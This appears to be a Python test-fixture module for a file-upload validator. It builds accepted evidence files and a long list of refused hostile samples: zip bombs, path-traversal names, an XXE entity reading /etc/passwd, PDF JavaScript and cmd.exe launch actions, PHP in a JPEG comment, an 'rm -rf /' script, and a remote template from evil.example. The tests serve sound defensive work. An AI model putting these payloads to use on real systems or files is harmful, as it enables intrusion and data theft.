"""Files made here, byte by byte: honest evidence, and what somebody might try instead."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/></Types>'
)
RELATIONS = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
EXECUTABLE = b"MZ\x90\x00" + bytes(60)


def zipped(members: Mapping[str, bytes | str], *, compress: bool = True, comment: bytes = b"") -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
        archive.comment = comment
    return held.getvalue()


def docx(more: Mapping[str, bytes | str] = {}) -> bytes:
    body = {"[Content_Types].xml": TYPES, "word/document.xml": "<w:document>증빙</w:document>"}
    return zipped({**body, **more})


def xlsx(more: Mapping[str, bytes | str] = {}) -> bytes:
    return zipped({"[Content_Types].xml": TYPES, "xl/workbook.xml": "<workbook/>", **more})


def hwpx() -> bytes:
    return zipped({"mimetype": "application/hwp+zip", "Contents/section0.xml": "<hs:sec/>"}, compress=False)


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(width: int = 2, height: int = 2, *, text: bytes = b"") -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    note = chunk(b"tEXt", b"Comment\x00" + text) if text else b""
    pixels = chunk(b"IDAT", zlib.compress(b"\x00\x10\x20" * 2))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + note + pixels + chunk(b"IEND", b"")


def segment(marker: int, body: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(body) + 2) + body


def jpeg(width: int = 640, height: int = 480, *, comment: bytes = b"") -> bytes:
    frame = segment(0xC0, struct.pack(">BHHB", 8, height, width, 1) + b"\x01\x11\x00")
    scan = segment(0xDA, b"\x01\x01\x00\x00\x3f\x00") + b"\x12\xff\x00\x34\xff\xd0\x56"
    return b"\xff\xd8" + segment(0xE0, b"JFIF\x00") + segment(0xFE, comment) + frame + scan + b"\xff\xd9"


def webp() -> bytes:
    body = b"WEBP" + b"VP8L" + struct.pack("<I", 6) + b"\x2f\x00\x00\x00\x00\x00"
    return b"RIFF" + struct.pack("<I", len(body)) + body


def box(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body) + 8) + kind + body


def heic() -> bytes:
    return box(b"ftyp", b"heic\x00\x00\x00\x00mif1heic") + box(b"meta", bytes(20)) + box(b"mdat", bytes(40))


def pdf(objects: bytes = b"", *, stream: bytes = b"q Q", after: bytes = b"\n") -> bytes:
    return (
        b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n"
        + objects
        + b"\n4 0 obj << /Length %d >>\nstream\n" % len(stream)
        + stream
        + b"\nendstream endobj\ntrailer << /Root 1 0 R >>\nstartxref\n0\n%%EOF"
        + after
    )


def packed_object(content: bytes, filter_name: bytes = b"/FlateDecode") -> bytes:
    packed = zlib.compress(content)
    head = b"5 0 obj << /Type /ObjStm /N 1 /First 4 /Filter %s /Length %d >>\nstream\n" % (filter_name, len(packed))
    return head + packed + b"\nendstream endobj\n"


def hwp() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + b"HWP Document File" + bytes(15)


def zip_with_lying_sizes() -> bytes:
    """The directory says 100 bytes, the member unpacks to ten million."""
    data = bytearray(docx({"word/lie.xml": bytes(10_000_000)}))
    at = data.rfind(b"word/lie.xml") - 46
    data[at + 24 : at + 28] = struct.pack("<I", 100)
    return bytes(data)


def zip_that_overlaps() -> bytes:
    """Two directory entries that share the bytes of one member."""
    data = docx({"word/a.xml": b"<a>" + b"x" * 500, "word/b.xml": b"<a>" + b"x" * 500})
    first, second = data.find(b"word/a.xml") - 30, data.rfind(b"word/b.xml") - 46
    changed = bytearray(data)
    changed[second + 42 : second + 46] = struct.pack("<I", first)
    return bytes(changed)


def encrypted_zip() -> bytes:
    data = bytearray(docx())
    at = data.rfind(b"word/document.xml") - 46
    data[at + 8] |= 1
    return bytes(data)


def doubled_names() -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        archive.writestr("word/document.xml", "<a/>")
        archive.writestr("WORD/document.xml", "<b/>")
    return held.getvalue()


def relation(kind: str, target: str) -> str:
    return RELATIONS.format(f'<Relationship Id="r1" Type="http://x/{kind}" Target="{target}" TargetMode="External"/>')


Make = Callable[[], bytes]
ACCEPTED: dict[str, tuple[Make, str, str]] = {
    "photo": (jpeg, "현장 사진.JPG", "현장 사진.jpg"),
    "photo from another program": (png, "캡처.png", "캡처.png"),
    "photo with a wrong name": (png, "캡처.jpg", "캡처_jpg.png"),
    "web picture": (webp, "a.webp", "a.webp"),
    "picture of an iPhone": (heic, "IMG_0001.HEIC", "IMG_0001.heic"),
    "PDF": (pdf, "접속기록 점검.pdf", "접속기록 점검.pdf"),
    "PDF with packed objects": (lambda: pdf(packed_object(b"6 0 << /Type /Page >>")), "b.pdf", "b.pdf"),
    "PDF whose picture looks like a word": (lambda: pdf(stream=b"\x00/JS\x01/AA"), "c.pdf", "c.pdf"),
    "document": (docx, "계약서.docx", "계약서.docx"),
    "document with a link": (lambda: docx({"word/_rels/d.xml.rels": relation("hyperlink", "https://a.example")}), "d.docx", "d.docx"),
    "sheet": (xlsx, "교육 명단.xlsx", "교육 명단.xlsx"),
    "slides": (lambda: zipped({"[Content_Types].xml": TYPES, "ppt/presentation.xml": "<p/>"}), "e.pptx", "e.pptx"),
    "Hangul document": (hwpx, "대장.hwpx", "대장.hwpx"),
    "old Hangul document": (hwp, "대장.hwp", "대장.hwp"),
}  # fmt: skip

REFUSED: dict[str, tuple[Make, str, str]] = {
    "nothing": (lambda: b"", "a.pdf", "empty"),
    "too much": (lambda: bytes(11 * 1024 * 1024), "a.pdf", "too_large"),
    "text": (lambda: "점검 결과".encode(), "a.txt", "unknown_kind"),
    "web page as PDF": (lambda: b"<!doctype html><script>alert(1)</script>", "a.pdf", "unknown_kind"),
    "web page in front of a PDF": (lambda: b"<html>" + pdf(), "a.pdf", "unknown_kind"),
    "web page in a PDF's head": (lambda: pdf().replace(b"%PDF-1.7\n", b"%PDF-1.7\n<script>x</script>\n"), "a.pdf", "hidden_content"),
    "SVG": (lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>', "a.svg", "unknown_kind"),
    "SVG as photo": (lambda: b'<?xml version="1.0"?><svg/>', "a.png", "unknown_kind"),
    "program": (lambda: EXECUTABLE, "a.exe", "executable"),
    "program as PDF": (lambda: EXECUTABLE, "a.pdf", "executable"),
    "shell script as photo": (lambda: b"#!/bin/sh\nrm -rf /\n", "a.jpg", "executable"),
    "Linux program": (lambda: b"\x7fELF" + bytes(60), "a.docx", "executable"),
    "RAR": (lambda: b"Rar!\x1a\x07\x00" + bytes(20), "a.docx", "unknown_kind"),
    "plain zip": (lambda: zipped({"a.pdf": pdf()}), "a.docx", "unknown_kind"),
    "Java archive": (lambda: zipped({"META-INF/MANIFEST.MF": "Manifest-Version: 1.0"}), "a.docx", "unknown_kind"),
    "open document": (lambda: zipped({"mimetype": "application/vnd.oasis.opendocument.text"}), "a.odt", "unknown_kind"),
    "half a zip": (lambda: docx()[:-30], "a.docx", "damaged"),
    "zip without an end": (lambda: b"PK\x03\x04" + bytes(100), "a.docx", "damaged"),
    "zip with a broken member": (lambda: _flipped(docx()), "a.docx", "damaged"),
    "bomb by ratio": (lambda: xlsx({"xl/sheet.xml": bytes(140_000_000)}), "a.xlsx", "bomb"),
    "bomb by number": (lambda: docx({f"word/{n}.xml": "" for n in range(4000)}), "a.docx", "bomb"),
    "bomb by sum": (lambda: docx({f"word/{n}.xml": bytes(1_000_000) for n in range(160)}), "a.docx", "bomb"),
    "bomb that overlaps": (zip_that_overlaps, "a.docx", "bomb"),
    "bomb that lies": (zip_with_lying_sizes, "a.docx", "damaged"),
    "encrypted document": (encrypted_zip, "a.docx", "encrypted"),
    "climbing name": (lambda: docx({"../../etc/cron.d/x": "x"}), "a.docx", "hidden_content"),
    "absolute name": (lambda: docx({"/etc/passwd": "x"}), "a.docx", "hidden_content"),
    "name with a drive": (lambda: docx({"C:\\x.xml": "x"}), "a.docx", "hidden_content"),
    "name twice": (doubled_names, "a.docx", "hidden_content"),
    "macros": (lambda: docx({"word/vbaProject.bin": b"x"}), "a.docx", "active_content"),
    "macros by type": (lambda: docx({"[Content_Types].xml": TYPES.replace("application/xml", "application/vnd.ms-word.document.macroEnabled.main+xml")}), "a.docx", "active_content"),
    "old macro sheets": (lambda: xlsx({"xl/macrosheets/s.xml": "<x/>"}), "a.xlsx", "active_content"),
    "ActiveX": (lambda: docx({"word/activeX/a1.xml": "<x/>"}), "a.docx", "active_content"),
    "entity": (lambda: docx({"word/document.xml": '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>'}), "a.docx", "active_content"),
    "entity in UTF-16": (lambda: docx({"word/document.xml": '<!DOCTYPE a []><a/>'.encode("utf-16")}), "a.docx", "active_content"),
    "entity over a block's end": (lambda: docx({"word/document.xml": b"<!--" + bytes(range(33, 126)) * 2818 + b"-->" + b"<!DOCTYPE a []>"}), "a.docx", "active_content"),
    "program inside": (lambda: docx({"word/media/image1.png": EXECUTABLE}), "a.docx", "executable"),
    "script inside": (lambda: docx({"word/run.js": "x()"}), "a.docx", "executable"),
    "web page inside": (lambda: docx({"word/afchunk.html": "<html/>"}), "a.docx", "executable"),
    "zip inside": (lambda: docx({"word/embeddings/a.bin": zipped({"a": "b"})}), "a.docx", "embedded_file"),
    "OLE object inside": (lambda: docx({"word/embeddings/o.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(50)}), "a.docx", "embedded_file"),
    "template from elsewhere": (lambda: docx({"word/_rels/s.rels": relation("attachedTemplate", "https://evil.example/t.dotm")}), "a.docx", "outside_content"),
    "picture from elsewhere": (lambda: docx({"word/_rels/s.rels": relation("image", "https://track.example/i.png").replace("<Rel", "<r:Rel")}), "a.docx", "outside_content"),
    "linked sheet": (lambda: xlsx({"xl/_rels/w.rels": relation("externalLinkPath", "file:///c:/x.xlsx")}), "a.xlsx", "outside_content"),
    "zip with a program in front": (lambda: EXECUTABLE + docx(), "a.docx", "executable"),
    "zip with bytes between": (lambda: docx().replace(b"PK\x01\x02", b"XXXXPK\x01\x02", 1), "a.docx", "hidden_content"),
    "zip with something behind": (lambda: docx() + b"<script>x</script>", "a.docx", "hidden_content"),
    "PDF and zip in one": (lambda: pdf(after=b"\n" + docx()), "a.pdf", "hidden_content"),
    "PDF and zip in one, ended": (lambda: pdf(after=b"\n" + docx() + b"%%EOF"), "a.pdf", "hidden_content"),
    "PDF and web page in one": (lambda: pdf(after=b"\n<script>x</script>"), "a.pdf", "hidden_content"),
    "PDF with a script": (lambda: pdf(b"3 0 obj << /OpenAction << /S /JavaScript /JS (x) >> >> endobj"), "a.pdf", "active_content"),
    "PDF with a script spelt oddly": (lambda: pdf(b"3 0 obj << /S /Java#53cript /#4aS (x) >> endobj"), "a.pdf", "active_content"),
    "PDF with a packed script": (lambda: pdf(packed_object(b"7 0 << /S /JavaScript /JS (x) >>")), "a.pdf", "active_content"),
    "PDF with a script behind a false stream": (lambda: pdf(b"(stream\n) 3 0 obj << /S /JavaScript >> endobj (endstream)"), "a.pdf", "active_content"),
    "PDF that packs oddly": (lambda: pdf(packed_object(b"7 0 << >>", b"/LZWDecode")), "a.pdf", "active_content"),
    "PDF that starts a program": (lambda: pdf(b"3 0 obj << /S /Launch /F (cmd.exe) >> endobj"), "a.pdf", "active_content"),
    "PDF with a file in it": (lambda: pdf(b"3 0 obj << /Type /EmbeddedFile >> endobj"), "a.pdf", "embedded_file"),
    "PDF with a password": (lambda: pdf(b"3 0 obj << /Encrypt 9 0 R >> endobj"), "a.pdf", "encrypted"),
    "PDF bomb": (lambda: pdf(packed_object(bytes(70_000_000))), "a.pdf", "bomb"),
    "PDF without an end": (lambda: pdf()[:-6], "a.pdf", "damaged"),
    "photo with a script": (lambda: jpeg(comment=b"<script>x()</script>"), "a.jpg", "hidden_content"),
    "photo with PHP": (lambda: jpeg(comment=b"<?php system('id') ?>"), "a.jpg", "hidden_content"),
    "photo cut off": (lambda: jpeg()[:-8], "a.jpg", "damaged"),
    "photo of nothing": (lambda: b"\xff\xd8\xff\xd9", "a.jpg", "damaged"),
    "photo too large to open": (lambda: jpeg(65_000, 65_000), "a.jpg", "bomb"),
    "picture too large to open": (lambda: png(100_000, 100_000), "a.png", "bomb"),
    "picture with a script": (lambda: png(text=b"<script>x</script>"), "a.png", "hidden_content"),
    "picture cut off": (lambda: png()[:-4], "a.png", "damaged"),
    "web picture cut off": (lambda: webp()[:-3], "a.webp", "damaged"),
    "video": (lambda: box(b"ftyp", b"isom\x00\x00\x02\x00isommp41") + box(b"mdat", bytes(10)), "a.heic", "unknown_kind"),
    "old Word document": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "a.doc", "unknown_kind"),
}  # fmt: skip


def _flipped(data: bytes) -> bytes:
    """One bit of a member's content is wrong."""
    at = data.find(b"word/document.xml") + len(b"word/document.xml") + 3
    return data[:at] + bytes([data[at] ^ 1]) + data[at + 1 :]
